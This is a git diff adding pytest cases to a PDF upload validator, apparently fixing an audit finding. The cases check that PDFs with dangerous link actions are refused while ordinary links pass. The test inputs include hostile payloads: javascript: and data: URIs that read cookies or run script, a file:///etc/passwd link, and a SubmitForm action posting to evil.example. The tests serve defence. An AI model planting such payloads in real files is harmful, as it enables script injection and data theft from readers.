@@ -96,6 +96,24 @@ def _launch_link(w):
     w.pages[0][NameObject("/Annots")] = ArrayObject([w._add_object(annot)])
 
 
+def _link_action(action: dict):
+    def mutate(w):
+        annot = DictionaryObject(
+            {
+                NameObject("/Type"): NameObject("/Annot"),
+                NameObject("/Subtype"): NameObject("/Link"),
+                NameObject("/A"): DictionaryObject({NameObject(k): v for k, v in action.items()}),
+            }
+        )
+        w.pages[0][NameObject("/Annots")] = ArrayObject([w._add_object(annot)])
+
+    return mutate
+
+
+def _uri(uri: str):
+    return _rewrite(_link_action({"/S": NameObject("/URI"), "/URI": TextStringObject(uri)}))
+
+
 def _page_aa(w):
     w.pages[0][NameObject("/AA")] = DictionaryObject({NameObject("/O"): _js_action()})
 
@@ -417,6 +435,24 @@ def test_r_k1_one_open_application_per_credit_code_by_database_constraint(alpha,
         (lambda: b"just some text, renamed to .pdf", "not_pdf"),
         (lambda: b"", "empty"),
         (lambda: b"%PDF-1.4\n" + b"0" * (5 * 1024 * 1024), "too_large"),
+        (lambda: _uri("javascript:alert(document.cookie)"), "pdf_uri_script"),
+        (lambda: _uri("  JaVa\tScRiPt:alert(1)"), "pdf_uri_script"),
+        (lambda: _uri("data:text/html,<script>alert(1)</script>"), "pdf_uri_script"),
+        (lambda: _uri("file:///etc/passwd"), "pdf_uri_script"),
+        (
+            lambda: _rewrite(
+                _link_action(
+                    {"/S": NameObject("/SubmitForm"), "/F": TextStringObject("https://evil.example/")}
+                )
+            ),
+            "pdf_form_action",
+        ),
+        (lambda: _rewrite(_link_action({"/S": NameObject("/ImportData")})), "pdf_form_action"),
+        (
+            lambda: _rewrite(_link_action({"/S": NameObject("/GoToR"), "/F": TextStringObject("x.pdf")})),
+            "pdf_remote_action",
+        ),
+        (lambda: b"<html><script>alert(1)</script></html>\n" + good_pdf(), "pdf_leading_bytes"),
     ],
     ids=[
         "encrypted",
@@ -432,6 +468,14 @@ def test_r_k1_one_open_application_per_credit_code_by_database_constraint(alpha,
         "not-a-pdf",
         "empty",
         "too-large",
+        "finding-5-uri-javascript",
+        "finding-5-uri-javascript-obfuscated",
+        "finding-5-uri-data",
+        "finding-5-uri-file",
+        "finding-5-submit-form",
+        "finding-5-import-data",
+        "finding-5-goto-remote",
+        "finding-5-html-before-header",
     ],
 )
 def test_r_d2_pdf_check_refuses_with_a_clear_code(make, code):
@@ -953,3 +997,12 @@ def test_demo_point_programme_seed_is_idempotent_and_covers_every_state(alpha, b
         ids = list(PointApplication.objects.values_list("pk", flat=True))
     for pk in ids:
         assert client.get(f"/vp/applications/{pk}/").status_code == 200
+
+
+@pytest.mark.parametrize(
+    "uri", ["https://beian.miit.gov.cn/", "http://example.com/a", "mailto:a@example.com", "#p2"]
+)
+def test_finding_5_pdf_with_ordinary_links_is_accepted(uri):
+    # given a scan with an ordinary web or mail link / when checked / then accepted unchanged
+    data = _uri(uri)
+    assert check_pdf(data, name="scan.pdf").data == data
